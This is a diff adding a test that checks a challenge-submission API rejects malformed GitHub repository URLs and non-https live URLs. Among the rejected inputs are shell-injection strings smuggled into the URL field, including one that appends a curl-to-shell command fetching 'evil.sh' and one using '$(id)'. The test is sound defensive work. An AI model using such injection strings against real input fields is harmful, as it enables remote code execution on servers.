@@ -68,6 +68,25 @@ describe('the 48-hour challenge', () => {
     }
   });
 
+  it('refuses a repository address that is more than https://github.com/{owner}/{repo}, and stores nothing', async () => {
+    const me = await founder();
+    const { id } = await current(me.token);
+    await post(me.token, `/api/challenges/${id}/join`);
+    clock.advance(31 * 60_000);
+    for (const githubUrl of ['https://github.com/ada/seed;curl${IFS}evil.sh|sh', 'https://github.com/ada/seed?x=$(id)', 'https://github.com/ada/seed/tree/main']) {
+      const response = await post(me.token, `/api/challenges/${id}/submit`, { ...repo, githubUrl });
+      expect({ status: response.statusCode, body: response.json() }).toEqual({
+        status: 400,
+        body: { error: 'Invalid request. githubUrl: GitHub URL must be a link to a repository: https://github.com/owner/repo' },
+      });
+    }
+    const insecure = await post(me.token, `/api/challenges/${id}/submit`, { ...repo, liveUrl: 'http://seedbank.dev' });
+    expect(insecure.json()).toEqual({ error: 'Invalid request. liveUrl: Live URL must be a web address starting with https://' });
+    expect((await current(me.token)).me.submission).toBeNull();
+    const submitted = await post(me.token, `/api/challenges/${id}/submit`, { ...repo, githubUrl: 'https://github.com/ada/seed.git' });
+    expect(submitted.json().submission.githubUrl).toBe('https://github.com/ada/seed');
+  });
+
   it('lets a participant leave before submitting, and keeps outsiders and investors from submitting', async () => {
     const me = await founder();
     const investor = await founder('INVESTOR');
